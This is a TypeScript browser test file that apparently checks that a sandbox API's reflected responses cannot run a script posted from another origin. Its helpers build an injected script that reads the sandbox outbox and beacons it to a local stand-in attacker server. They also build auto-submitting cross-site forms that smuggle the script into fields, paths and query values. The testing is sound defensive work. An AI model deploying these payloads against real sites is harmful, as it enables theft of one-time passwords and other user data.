// The API can send JSON with the Content-Type of HTML, and a response repeats values of the request. A page of another origin
// can post a form. A browser would then show the response as a page of the sandbox's origin, where a script can read one-time
// passwords. These tests check in a real browser that this is impossible.
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { text } from "node:stream/consumers";
import { fetchRuntimes, launchChromium, type Page } from "@cbss/testing";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { createSandbox, type Handle, type SandboxOptions } from "../src/index.ts";
import { type RunningSandbox, serve } from "../src/node.ts";
import { EMAIL_BODY, EMAIL_PATH, post } from "./calls.ts";

interface BrowserPage extends Page {
  waitForURL(url: RegExp): Promise<void>;
  waitForLoadState(): Promise<void>;
}

await fetchRuntimes();
const chromium = (await launchChromium()) as
  | {
      newPage(): Promise<BrowserPage & { close(): Promise<void> }>;
      version(): string;
      close(): Promise<void>;
    }
  | undefined;

/** The data that a page of another origin received. */
const stolen: string[] = [];
let attackPage = "";
let attacker: Server;

beforeAll(async () => {
  attacker = createServer(async (message, response) => {
    if (message.url === "/stolen") stolen.push(await text(message));
    response.setHeader("Content-Type", "text/html");
    response.end(message.url === "/" ? attackPage : "");
  });
  await new Promise<void>((resolve) => attacker.listen(0, "127.0.0.1", resolve));
});
afterAll(async () => {
  await chromium?.close();
  attacker.closeAllConnections();
  attacker.close();
});
beforeEach(() => {
  stolen.length = 0;
});

const attackerUrl = () => `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;

/** A script that reads the outbox of its origin and sends it away. It contains no quote that JSON would escape. */
const script = () =>
  "<script>var r=new XMLHttpRequest();r.open('GET','/__sandbox/outbox',false);r.send();" +
  `navigator.sendBeacon('${attackerUrl()}/stolen',r.responseText)</script>`;

const inAttribute = (value: string) => value.replaceAll("&", "&amp;").replaceAll('"', "&quot;");

interface Form {
  readonly method?: string;
  readonly action: string;
  readonly enctype?: string;
  readonly field?: string;
  readonly target?: string;
}

const IN_A_FRAME = "frame";

function pageOf(url: string, { method = "POST", action, enctype, field, target = "_self" }: Form): string {
  return `<!DOCTYPE html><iframe name="${IN_A_FRAME}"></iframe>
    <form method="${method}" action="${inAttribute(url + action)}" enctype="${enctype}" target="${target}">
      <input name="${field ?? "ClientCode"}" value="${inAttribute(script())}">
    </form><script>document.forms[0].submit()</script>`;
}

/** Opens the attacker's page, which posts its form, and waits until the browser shows the response. */
async function attack(url: string, form: Form): Promise<void> {
  if (chromium === undefined) throw new Error("There is no Chromium on this machine.");
  attackPage = pageOf(url, form);
  const page = await chromium.newPage();
  await page.goto(attackerUrl());
  if (form.target === undefined) await page.waitForURL(new RegExp(`^${url}/`));
  await page.waitForLoadState();
  // The browser sends a beacon while it loads the next page.
  await page.goto(`${attackerUrl()}/next`);
  await page.close();
}

async function withServer(
  options: SandboxOptions,
  run: (server: RunningSandbox) => Promise<void>,
  wrap = (handle: Handle): Handle => handle,
): Promise<void> {
  const sandbox = createSandbox({ testSeed: 1, ...options });
  await post(sandbox, EMAIL_BODY);
  const server = await serve({ handle: wrap(sandbox.handle) }, { port: 0 });
  await run(server).finally(server.close);
}

const called = `${EMAIL_PATH}?Signature=x`;
const scriptInPath = () => `/${encodeURIComponent(script())}`;
const FORMS: readonly [name: string, form: () => Form][] = [
  ["a rejection that repeats the ClientCode", () => ({ action: called })],
  ["the same in a frame", () => ({ action: called, target: IN_A_FRAME })],
  [
    "a field with the script in its name",
    () => ({ action: called, field: `Content[${inAttribute(script())}]` }),
  ],
  ["a 404 for a path with the script in it", () => ({ action: scriptInPath() })],
  ["the same, requested by a link", () => ({ action: scriptInPath(), method: "GET" })],
  ["a 404 for a query with the script in it", () => ({ action: `${EMAIL_PATH}?x=${scriptInPath()}` })],
  ["a 405 for a GET", () => ({ action: called, method: "GET" })],
  ["a Language with the script in it", () => ({ action: `${called}&Language=${scriptInPath()}` })],
  ["a form as plain text", () => ({ action: called, enctype: "text/plain" })],
  [
    "plain text that is JSON",
    () => ({ action: called, enctype: "text/plain", field: "{&quot;ClientCode&quot;:&quot;" }),
  ],
  ["a form in parts", () => ({ action: called, enctype: "multipart/form-data" })],
];

describe.skipIf(!chromium)(
  `a form that a page of another origin posts, in Chromium ${chromium?.version()}`,
  () => {
    const refusing: SandboxOptions[] = [
      {},
      { errorDetails: true, checksModelState: true },
      { signatureCheckedIn: "filter" },
      { signatureCheckedIn: "handler" },
    ];

    test.each(refusing)(
      "runs no script in the response, with the options %j",
      { timeout: 120_000 },
      (options) =>
        withServer(options, async ({ url }) => {
          for (const [, form] of FORMS) await attack(url, form());

          expect(stolen).toEqual([]);
        }),
    );

    test.each(["application/json", "text/json", "text/html", "application/xml", "text/xml"])(
      "runs no script in a response of type %s",
      (accept) => {
        // A browser requests a page.
        const answeredAs =
          (handle: Handle): Handle =>
          (request) =>
            handle({ ...request, headers: { ...request.headers, accept } });

        return withServer(
          {},
          async ({ url }) => {
            for (const action of [called, scriptInPath()]) await attack(url, { action });

            expect(stolen).toEqual([]);
          },
          answeredAs,
        );
      },
    );

    test("would run the script and read the outbox without the policy of each response", () => {
      const unprotected =
        (handle: Handle): Handle =>
        async (request) => {
          const { headers, ...answer } = await handle(request);
          return { ...answer, headers: { ...headers, "Content-Security-Policy": "" } };
        };

      return withServer(
        {},
        async ({ url }) => {
          await attack(url, { action: called });

          await expect
            .poll(() => stolen.join(), { timeout: 10_000 })
            .toContain('"oneTimePassword": "262067"');
        },
        unprotected,
      );
    });
  },
);
